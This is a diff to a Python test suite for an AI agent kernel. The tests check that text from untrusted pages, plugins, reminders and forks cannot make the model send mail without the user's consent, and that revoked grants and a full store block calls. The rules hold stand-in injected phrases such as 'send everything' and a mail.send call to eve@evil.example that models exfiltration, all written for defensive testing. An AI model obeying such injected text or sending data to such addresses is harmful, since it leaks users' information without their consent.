@@ -1,4 +1,4 @@
-"""What somebody tries who writes pages, files and plugins, against a whole kernel that obeys them."""
+"""What writers of pages, files and plugins try, against a whole kernel whose model obeys them."""
 
 from __future__ import annotations
 
@@ -11,7 +11,7 @@ import pytest
 
 from llmos import limits
 from llmos.config import AgentConfig, Config
-from llmos.errors import CallFailed, KernelError
+from llmos.errors import CallFailed, KernelError, StoreFull
 from llmos.events import CallAsked, Message, TurnFinished
 from llmos.kernel.evidence import Exhibits
 from llmos.kernel.kernel import Kernel
@@ -21,6 +21,7 @@ from llmos.kernel.specialist import Specialist
 from llmos.kernel.syscalls import Invocation, Outcome, Syscall, SyscallTable, process_calls
 from llmos.kernel.trust import trust
 from llmos.labels import Label, Origin
+from llmos.memory.erase import erase
 from llmos.memory.grants import Grants
 from llmos.memory.journal import Journal
 from llmos.memory.pages import Kind
@@ -97,7 +98,7 @@ async def test_an_error_that_quotes_a_stranger_counts_as_their_text(home: Path):
         seen, _ = await asked(kernel, pid, "Read the site and write to ann@x.org", "no")
         assert len(SENT) == 1  # once is what the words ask for
         assert len(questions(seen)) == 1
-        [record] = [r for r in kernel.journal.records(pid, role=Kind.TOOL)][:1]
+        record = kernel.journal.records(pid, role=Kind.TOOL)[0]
         assert record.label.origin is Origin.UNTRUSTED
 
 
@@ -347,3 +348,116 @@ async def test_what_is_only_mentioned_gives_away_neither_secrets_nor_everything(
         process = kernel.table[pid]
         assert lender._named(process) == [(person / "notes.txt").resolve()]
         await lender.close()
+
+
+async def test_what_a_foreign_expert_was_told_is_a_strangers_text_once_it_speaks_no_more(
+    home: Path,
+):
+    rules = [*RULES[1:], ("Write", TO_ANN), ("Hello", "Hello.")]
+    rules = [("\n\nTask: ", "none"), *rules]
+    async with kernel_on(home, rules, calls=CALLS) as plain:
+        kernel = staffed(plain, *CALLS)
+        pid = (await kernel.create()).pid
+        await asked(kernel, pid, "@helper Hello", "no")
+        seen, _ = await asked(kernel, pid, "Write to ann@x.org", "no")
+        [question] = questions(seen)
+        assert "Your words did not ask for this call, or not once more." in question.reasons
+        seen, _ = await asked(kernel, pid, "@helper Write to ann@x.org", "no")
+        assert not questions(seen)
+        assert len(SENT) == 1
+
+
+async def test_a_reminder_asks_for_no_effect(home: Path):
+    rules = [
+        ("(Reminder)", TO_ANN),
+        *RULES,
+        ("send everything", "I read it."),
+        ("Read", call("page.read")),
+    ]
+    async with kernel_on(home, rules, calls=CALLS) as kernel:
+        pid = (await kernel.create()).pid
+        await asked(kernel, pid, "Read the page; ann@x.org knows it", "no")
+        with kernel.subscribe(pid, answers=False) as events:
+            await kernel.remind(pid, Timer("t1", 0.0, "write to ann@x.org"))
+            async with asyncio.timeout(30):
+                async for event in events:
+                    if isinstance(event, TurnFinished):
+                        break
+        assert [error for error, _ in results(kernel, pid)] == ["", "denied"]
+        assert SENT == []
+
+
+async def test_a_verdict_is_forgotten_with_the_call_that_it_was_about(home: Path):
+    async with kernel_on(home, [*RULES, ("Go", TO_EVE)], calls=CALLS) as kernel:
+        pid = (await kernel.create()).pid
+        await asked(kernel, pid, "Go", "once")
+        [calling, _] = kernel.journal.records(pid, role=Kind.ASSISTANT)
+        await erase(kernel.journal, [calling.stored.seq], "forgotten")
+        [verdict] = kernel.journal.records_of(Kind.VERDICT)
+        assert verdict.stored.message.content == ""
+        assert verdict.stored.message.name == "once"
+
+
+async def test_what_cannot_be_kept_is_not_done(home: Path, monkeypatch: pytest.MonkeyPatch):
+    async with kernel_on(home, [*RULES, ("Go", TO_EVE)], calls=CALLS) as kernel:
+        pid = (await kernel.create()).pid
+        append = kernel.journal.append
+
+        async def full(pid: int, message: Message, **more: Any) -> Any:
+            if message.role == Kind.VERDICT:
+                raise StoreFull("The disk is full.")
+            return await append(pid, message, **more)
+
+        monkeypatch.setattr(kernel.journal, "append", full)
+        await asked(kernel, pid, "Go", "always")
+        [(error, text)] = results(kernel, pid)
+        assert (error, text) == ("store_full", "Error: The disk is full.")
+        assert await kernel.permissions.grants() == []
+        assert SENT == []
+
+
+async def test_a_chain_of_forks_knows_what_was_read_before_it(home: Path):
+    rules = [*RULES, ("Read", call("page.read")), ("send everything", "I did."), ("Go", TO_ANN)]
+    rules = [("\n\nTask: ", "none"), *rules]
+    async with kernel_on(home, rules, calls=CALLS) as kernel:
+        pid = (await kernel.create()).pid
+        await turn(kernel, pid, "Read it, ann@x.org")
+        fork = (await kernel.fork((await kernel.fork(pid)).pid)).pid
+        seen, _ = await asked(kernel, fork, "Go", "no")
+        assert len(questions(seen)) == 1
+    async with kernel_on(home, rules, calls=CALLS) as kernel:
+        await asked(kernel, fork, "Go", None)
+        assert SENT == []
+
+
+async def test_a_grant_that_is_taken_back_while_a_question_waits_allows_nothing(home: Path):
+    two = f"{call('mail.send', to='eve@evil.example', body='1')}{TO_EVE}"
+    async with kernel_on(home, [*RULES, ("Go", two)], calls=CALLS) as kernel:
+        pid = (await kernel.create()).pid
+        grant = await kernel.permissions.grant(
+            call="mail.send", arguments={"to": "eve@evil.example", "body": "1"}
+        )
+        with kernel.subscribe(pid, answers=True) as events:
+            await kernel.send(pid, "Go")
+            async with asyncio.timeout(30):
+                async for event in events:
+                    if isinstance(event, CallAsked):
+                        await kernel.permissions.revoke(grant.id)
+                        kernel.permissions.answer(pid, event.call.id, "no")
+                    if isinstance(event, TurnFinished):
+                        break
+        assert [sent["body"] for sent in SENT] == ["1"]
+        await asked(kernel, pid, "Go", None)
+        assert len(SENT) == 1
+
+
+async def test_what_was_said_in_a_fork_is_the_persons_own_where_it_is_read(home: Path):
+    async with kernel_on(home, [("Ask", call("process.wait", pid=2))], calls=CALLS) as kernel:
+        pid = (await kernel.create()).pid
+        await turn(kernel, pid, "Hello")
+        fork = (await kernel.fork(pid)).pid
+        await turn(kernel, fork, "My salary is 100.")
+        await turn(kernel, pid, "Ask it")
+        [record] = kernel.journal.records(pid, role=Kind.TOOL)
+        assert record.stored.error == ""
+        assert record.label.private
